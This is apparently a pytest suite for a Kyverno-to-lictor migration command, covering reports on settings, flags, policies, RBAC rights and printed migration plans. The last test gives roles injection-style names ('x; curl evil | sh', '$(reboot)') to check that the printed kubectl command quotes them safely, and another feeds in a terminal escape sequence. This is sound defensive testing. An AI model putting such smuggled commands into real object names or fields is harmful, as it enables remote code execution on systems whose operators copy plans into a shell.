"""What is said of an installation of Kyverno, from files."""

import json
import shlex

import pytest
import yaml

from lictor.cli import exit_codes

CONFIG_MAP = {
    "apiVersion": "v1",
    "kind": "ConfigMap",
    "metadata": {"name": "kyverno", "namespace": "kyverno"},
    "data": {"resourceFilters": "[Event,*,*]", "excludeGroups": "night-watch"},
}
POLICY = {
    "apiVersion": "kyverno.io/v1",
    "kind": "ClusterPolicy",
    "metadata": {"name": "names"},
    "spec": {
        "rules": [
            {
                "name": "names",
                "match": {"any": [{"resources": {"kinds": ["Pod"]}}]},
                "validate": {"message": "no", "pattern": {"metadata": {"name": "a*"}}},
            }
        ]
    },
}


def make_deployment(controller="admission", *args, instance="kyverno", **more):
    component = f"{controller}-controller"
    labels = {
        "app.kubernetes.io/part-of": "kyverno",
        "app.kubernetes.io/instance": instance,
        "app.kubernetes.io/component": component,
    }
    container = {"name": "kyverno", "image": "kyverno:1", "args": list(args)}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": f"kyverno-{component}",
            "namespace": "kyverno",
            "labels": labels,
            **more,
        },
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"labels": labels}, "spec": {"containers": [container]}},
        },
    }


def migrate(tmp_path, capsys, *documents, expected=0):
    file = tmp_path / "kyverno.yaml"
    file.write_text(yaml.safe_dump_all(documents))
    code = exit_codes.run(["migrate", str(file), "--format=json"])
    out = capsys.readouterr()
    assert code == expected, out.err + out.out
    return json.loads(out.out)


def test_settings_flags_and_policies_are_told(tmp_path, capsys):
    deployment = make_deployment(
        "admission",
        *("--webhookTimeout=7", "-v=4", "--enablePolicyException", "--profile=true"),
        *("--servicePort=443", "--backgroundScan=true"),
    )
    said = migrate(tmp_path, capsys, CONFIG_MAP, deployment, POLICY)["report"]
    assert said["deployments"] == [
        {"name": "kyverno-admission-controller", "images": "kyverno:1", "replicas": 2}
    ]
    assert [(each["name"], each["value"]) for each in said["settings"]] == [
        ("excludeGroups", "night-watch"),
        ("resourceFilters", "[Event,*,*]"),
    ]
    kept = {"webhookTimeout": "7", "v": "4", "enablePolicyException": "true"}
    assert said["keptFlags"] == kept
    reasons = {each["name"]: each["reason"] for each in said["droppedFlags"]}
    assert reasons == {
        "profile": "it has no effect: it is about the runtime of Go",
        "servicePort": "it follows from the installation",
    }
    assert said["policies"] == {"ClusterPolicy": 1}


def change_policy(**rule):
    [first] = POLICY["spec"]["rules"]
    return {**POLICY, "spec": {"rules": [{**first, **rule}]}}


FAULTS = [
    (
        "a setting that nobody reads",
        [{**CONFIG_MAP, "data": {"resourceFilter": "[Event,*,*]"}}],
        "settings",
        "not used",
    ),
    (
        "a setting that cannot be read",
        [{**CONFIG_MAP, "data": {"generateSuccessEvents": "perhaps"}}],
        "settings",
        "expected true or false",
    ),
    (
        "an unknown flag",
        [make_deployment("admission", "--webhokTimeout=7")],
        "droppedFlags",
        "no such flag",
    ),
    (
        "another selector",
        [make_deployment(instance="policies")],
        "deployments",
        "instance=policies",
    ),
    (
        "a policy that cannot be used",
        [make_deployment(), change_policy(validate={"message": "no", "pattren": {}})],
        "problems",
        "pattren",
    ),
]


@pytest.mark.parametrize(
    ("documents", "part", "said"), [f[1:] for f in FAULTS], ids=[f[0] for f in FAULTS]
)
def test_what_would_not_work_as_before(tmp_path, capsys, documents, part, said):
    found = migrate(tmp_path, capsys, *documents, expected=1)["report"]
    assert said in json.dumps(found[part])


def generate(kind, api_version):
    body = {"apiVersion": api_version, "kind": kind, "name": "made", "namespace": "shop"}
    rule = {
        "name": "make",
        "match": {"any": [{"resources": {"kinds": ["Namespace"]}}]},
        "generate": {**body, "synchronize": True, "data": {}},
    }
    metadata = {"name": "add-rolebinding"}
    return {**POLICY, "metadata": metadata, "spec": {"background": False, "rules": [rule]}}


ROLE_BINDING = generate("RoleBinding", "rbac.authorization.k8s.io/v1")


def test_a_policy_without_a_right_that_it_needs_is_named_with_line_and_role(tmp_path, capsys):
    found = migrate(tmp_path, capsys, CONFIG_MAP, ROLE_BINDING, expected=1)["report"]
    [problem] = found["problems"]
    assert (problem["kind"], problem["name"]) == ("ClusterPolicy", "add-rolebinding")
    file, _, line = problem["place"].rpartition(":")
    assert file == str(tmp_path / "kyverno.yaml")
    lines = (tmp_path / "kyverno.yaml").read_text().splitlines()
    assert lines[int(line) - 1].strip() == "- generate:"
    role = json.loads(problem["message"].partition("apply this one: ")[2])
    assert role["rules"][0]["resources"] == ["rolebindings"]
    # With that role, nothing is missing.
    migrate(tmp_path, capsys, CONFIG_MAP, ROLE_BINDING, role)


def test_rights_that_lictor_has_by_itself_are_not_missing(tmp_path, capsys):
    policy = generate("NetworkPolicy", "networking.k8s.io/v1")
    assert migrate(tmp_path, capsys, CONFIG_MAP, policy)["report"]["problems"] == []


def test_who_would_bring_kyverno_back_is_named(tmp_path, capsys):
    marks = {"meta.helm.sh/release-name": "policies"}
    said = migrate(tmp_path, capsys, make_deployment(annotations=marks))
    assert said["report"]["managers"] == ["Helm (policies)"]
    assert any("Helm (policies) would bring Kyverno back" in step["what"] for step in said["plan"])


def test_rights_that_go_and_objects_that_nothing_uses_are_named(tmp_path, capsys):
    labels = {"app.kubernetes.io/part-of": "kyverno"}
    rule = {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["get", "create"]}
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "kyverno:background-controller:core", "labels": labels},
        "rules": [rule],
    }
    job = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": "tidy", "labels": labels},
    }
    said = migrate(tmp_path, capsys, make_deployment(), role, job)["report"]
    expected = {
        "role": "kyverno:background-controller",
        "resource": "jobs.batch",
        "verbs": ["create"],
    }
    assert said["missingRights"] == [expected]
    assert said["unused"] == ["cronjob.batch/tidy"]


@pytest.mark.parametrize("text", ["", "---\n", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n"])
def test_nothing_of_kyverno_is_no_good_news(tmp_path, capsys, text):
    file = tmp_path / "pod.yaml"
    file.write_text(text)
    assert exit_codes.run(["migrate", str(file)]) == 2
    assert "nothing of Kyverno's was found" in capsys.readouterr().err


def test_text_names_the_steps(tmp_path, capsys):
    file = tmp_path / "kyverno.yaml"
    hostile = {**CONFIG_MAP, "data": {"excludeGroups": "a\x1b[2Jb"}}
    file.write_text(
        json.dumps({"apiVersion": "v1", "kind": "List", "items": [hostile, make_deployment()]})
    )
    assert exit_codes.run(["migrate", str(file), "--image=registry.example/lictor:2"]) == 0
    said = capsys.readouterr().out
    assert "kyverno/excludeGroups: a [2Jb" in said
    assert (
        "lictor install --namespace kyverno --prefix kyverno --image registry.example/lictor:2 --apply"
        in said
    )
    assert "--restore kyverno-before.json" in said


WRONG = [
    (["--compare"], "--compare needs --reached-by"),
    (["--compare", "--for=soon", "--reached-by=a:1"], "write a duration"),
    (["--compare", "--save=x"], "--save and --compare: not together"),
    (["--kubeconfig=/nowhere/config"], "/nowhere/config"),
]


@pytest.mark.parametrize(("words", "said"), WRONG, ids=[said for _, said in WRONG])
def test_a_wrong_call(capsys, words, said):
    assert exit_codes.run(["migrate", *words]) != 0
    assert said in capsys.readouterr().err


def test_the_job_that_compares_is_printed(capsys):
    assert exit_codes.run(["migrate", "--compare", "--in-cluster", "--for=1h"]) == 0
    made = list(yaml.safe_load_all(capsys.readouterr().out))
    job = next(each for each in made if each["kind"] == "Job")
    [container] = job["spec"]["template"]["spec"]["containers"]
    assert "--for=1h" in container["args"]
    assert "--reached-by=lictor/lictor-compare" in container["args"]
    secrets = [
        rule for each in made for rule in each.get("rules") or () if "secrets" in rule["resources"]
    ]
    assert secrets == []


def test_names_of_objects_are_no_commands(tmp_path, capsys):
    # A role may be called anything, and people copy the plan to a shell.
    labels = {"app.kubernetes.io/part-of": "kyverno"}
    names = ("x; curl evil | sh", "$(reboot)", "--all")
    roles = [
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRole",
            "metadata": {"name": name, "labels": labels},
            "rules": [],
        }
        for name in names
    ]
    found = migrate(tmp_path, capsys, make_deployment(), CONFIG_MAP, *roles)
    command = next(s["command"] for s in found["plan"] if "kubectl delete" in s["command"])
    words = shlex.split(command)
    assert words[:5] == ["kubectl", "delete", "-n", "kyverno", "--"]
    assert {word.partition("/")[2] for word in words[5:]} >= set(names)
